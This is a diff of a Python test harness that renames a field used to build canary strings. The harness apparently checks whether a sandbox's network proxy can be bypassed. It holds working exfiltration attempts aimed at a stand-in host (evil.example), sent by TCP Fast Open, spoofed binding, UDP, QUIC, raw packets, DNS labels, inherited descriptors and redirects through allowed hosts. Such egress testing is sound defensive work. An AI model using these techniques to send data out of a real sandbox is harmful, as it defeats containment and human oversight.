@@ -33,19 +33,19 @@ _TIME_S: Final = 8.0
 _REQUEST: Final = "POST /{canary} HTTP/1.1\r\nHost: {inner}\r\nContent-Length: 0\r\n\r\n"
 
 
-def canary_of(mark: str, name: str) -> str:
+def canary_of(sign: str, name: str) -> str:
     """What an attempt sends."""
-    return f"{mark}-{name.replace('_', '-')}"
+    return f"{sign}-{name.replace('_', '-')}"
 
 
 def arrived(scene: Scene, name: str, _said: str) -> bool:
     """What the attempt sends has come to a host that is not listed."""
-    return (canary_of(scene.mark, name), False) in scene.arrived
+    return (canary_of(scene.sign, name), False) in scene.arrived
 
 
 def arrived_anywhere(scene: Scene, name: str, _said: str) -> bool:
     """It has come to any host."""
-    return canary_of(scene.mark, name) in {text for text, _ in scene.arrived}
+    return canary_of(scene.sign, name) in {text for text, _ in scene.arrived}
 
 
 class Line:
@@ -171,12 +171,12 @@ def _tried(steps: list[list[str]], canary: str) -> str:
 
 
 def _from_table(facts: dict[str, Any], place: Place) -> object:
-    return say(facts["do"], canary_of(place.mark, facts["name"]))
+    return say(facts["do"], canary_of(place.sign, facts["name"]))
 
 
 def _to_target(facts: dict[str, Any], place: Place) -> object:
     """Ask for a host in each way that the proxy knows."""
-    canary = canary_of(place.mark, facts["name"])
+    canary = canary_of(place.sign, facts["name"])
     host, port = facts["host"].replace("{canary}", canary), facts.get("port", 80)
     inner = _REQUEST.replace("{inner}", facts.get("inner", host.encode("ascii", "replace").decode()))
     name = host.strip("[]").encode("utf-8").decode("latin-1")
@@ -206,7 +206,7 @@ def _sent(name: str, place: Place, family: int, kind: int, protocol: int, addres
     with socket.socket(family, kind, protocol) as one:
         one.settimeout(_TIME_S)
         one.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
-        text = f"{canary_of(place.mark, name)}\n".encode()
+        text = f"{canary_of(place.sign, name)}\n".encode()
         if kind == socket.SOCK_STREAM:
             one.connect(address)
             one.sendall(text)
@@ -215,12 +215,12 @@ def _sent(name: str, place: Place, family: int, kind: int, protocol: int, addres
 
 
 def _echo(name: str, place: Place, kind: int) -> bytes:
-    body = f"{canary_of(place.mark, name)}\n".encode()
+    body = f"{canary_of(place.sign, name)}\n".encode()
     return struct.pack(">BBHHH", kind, 0, 0, 1, 1) + body
 
 
 def _query(name: str, place: Place) -> bytes:
-    labels = b"".join(bytes([len(one)]) + one for one in (canary_of(place.mark, name).encode(), b"evil", b"example"))
+    labels = b"".join(bytes([len(one)]) + one for one in (canary_of(place.sign, name).encode(), b"evil", b"example"))
     return struct.pack(">6H", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", 1, 1)
 
 
@@ -243,7 +243,7 @@ class Direct(Group, called="Network list: past the proxy", seen=arrived, way="li
     def exit_fast_open(self, place: Place) -> object:
         """Send with the first packet of a connection (TCP Fast Open)."""
         with socket.socket(INET, STREAM) as one:
-            one.sendto(f"{canary_of(place.mark, 'exit_fast_open')}\n".encode(), socket.MSG_FASTOPEN, (EVIL, 80))
+            one.sendto(f"{canary_of(place.sign, 'exit_fast_open')}\n".encode(), socket.MSG_FASTOPEN, (EVIL, 80))
 
     def exit_bound_elsewhere(self, place: Place) -> object:
         """Connect from an address that the machine does not have (IP_FREEBIND)."""
@@ -252,7 +252,7 @@ class Direct(Group, called="Network list: past the proxy", seen=arrived, way="li
             one.bind((EVIL, 0))
             one.settimeout(_TIME_S)
             one.connect((EVIL, 80))
-            one.sendall(f"{canary_of(place.mark, 'exit_bound_elsewhere')}\n".encode())
+            one.sendall(f"{canary_of(place.sign, 'exit_bound_elsewhere')}\n".encode())
 
     def exit_udp(self, place: Place) -> object:
         """Send a datagram to a host."""
@@ -266,7 +266,7 @@ class Direct(Group, called="Network list: past the proxy", seen=arrived, way="li
         """Send a first packet of QUIC."""
         with socket.socket(INET, DGRAM) as one:
             one.connect((EVIL, 443))
-            text = canary_of(place.mark, "exit_quic").encode()
+            text = canary_of(place.sign, "exit_quic").encode()
             one.send(b"\xc3\0\0\0\1\x08" + bytes(8) + b"\0\0\x44\xb0" + text + b"\n" + bytes(1100))
 
     def exit_udp_lite(self, place: Place) -> object:
@@ -308,7 +308,7 @@ class Direct(Group, called="Network list: past the proxy", seen=arrived, way="li
 
         def send() -> None:
             with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0x0800) as one:
-                one.sendto(canary_of(place.mark, "exit_packet").encode(), ("lo", 0x0800))
+                one.sendto(canary_of(place.sign, "exit_packet").encode(), ("lo", 0x0800))
 
         return self._as_root(send, kernel.NEWNS)
 
@@ -339,11 +339,11 @@ class Direct(Group, called="Network list: past the proxy", seen=arrived, way="li
 
     def exit_abstract(self, place: Place) -> object:
         """Send to an abstract socket where the proxy runs."""
-        return _sent("exit_abstract", place, socket.AF_UNIX, STREAM, 0, f"\0{place.mark}")
+        return _sent("exit_abstract", place, socket.AF_UNIX, STREAM, 0, f"\0{place.sign}")
 
     def exit_descriptor(self, place: Place) -> object:
         """Send by a connection that the worker has, and by whatever descriptor was inherited."""
-        text = f"{canary_of(place.mark, 'exit_descriptor')}\n".encode()
+        text = f"{canary_of(place.sign, 'exit_descriptor')}\n".encode()
         for fd in range(3, 1024):
             with contextlib.suppress(OSError):
                 os.write(fd, text)
@@ -374,7 +374,7 @@ class Direct(Group, called="Network list: past the proxy", seen=arrived, way="li
 
     def exit_dns(self, place: Place) -> object:
         """Have a name resolved that says it."""
-        return socket.getaddrinfo(f"{canary_of(place.mark, 'exit_dns')}.evil.example", 80)[0][4][0]
+        return socket.getaddrinfo(f"{canary_of(place.sign, 'exit_dns')}.evil.example", 80)[0][4][0]
 
     def exit_dns_udp(self, place: Place) -> object:
         """Ask the resolver of the host, and one of the Internet, for such a name, over UDP."""
@@ -399,14 +399,14 @@ class Direct(Group, called="Network list: past the proxy", seen=arrived, way="li
 class Programs(Group, called="Network list: redirects", seen=arrived, way="listed", backend="bubblewrap"):
     def redirect_curl(self, place: Place) -> object:
         """Have a listed host send curl to another one."""
-        url = f"http://{LISTED}/redirect/evil.example/{canary_of(place.mark, 'redirect_curl')}"
+        url = f"http://{LISTED}/redirect/evil.example/{canary_of(place.sign, 'redirect_curl')}"
         words = ["curl", "-sSL", "-m", "5", "--proxy", "http://127.0.0.1:3128", url]
         done = subprocess.run(words, capture_output=True, text=True, check=False)
         return f"{done.stdout} {done.stderr}"
 
     def redirect_python(self, place: Place) -> object:
         """Have a listed host send Python to an address."""
-        url = f"http://{LISTED}/redirect/{EVIL}/{canary_of(place.mark, 'redirect_python')}"
+        url = f"http://{LISTED}/redirect/{EVIL}/{canary_of(place.sign, 'redirect_python')}"
         proxy = urllib.request.ProxyHandler({"http": "http://127.0.0.1:3128"})
         return urllib.request.build_opener(proxy).open(url, timeout=_TIME_S).read().decode()
 
@@ -445,7 +445,7 @@ class Reading(
         request = _REQUEST.replace("{inner}", LISTED)
         return say(
             [f"CONNECT {LISTED}:80 HTTP/1.1\r\nHost: x\r\n\r\n", "@answer", request],
-            canary_of(place.mark, "read_only_to_listed"),
+            canary_of(place.sign, "read_only_to_listed"),
         )
 
     def read_only_to_other(self, place: Place) -> object:
@@ -454,6 +454,6 @@ class Reading(
 
     def read_only_by_curl(self, place: Place) -> object:
         """Have curl ask a listed host by all that its environment and options say."""
-        url = f"http://{LISTED}/{canary_of(place.mark, 'read_only_by_curl')}"
+        url = f"http://{LISTED}/{canary_of(place.sign, 'read_only_by_curl')}"
         words = ["curl", "-sS", "-m", "5", "--proxy", "http://127.0.0.1:3128", url]
         return subprocess.run(words, capture_output=True, text=True, check=False).stderr
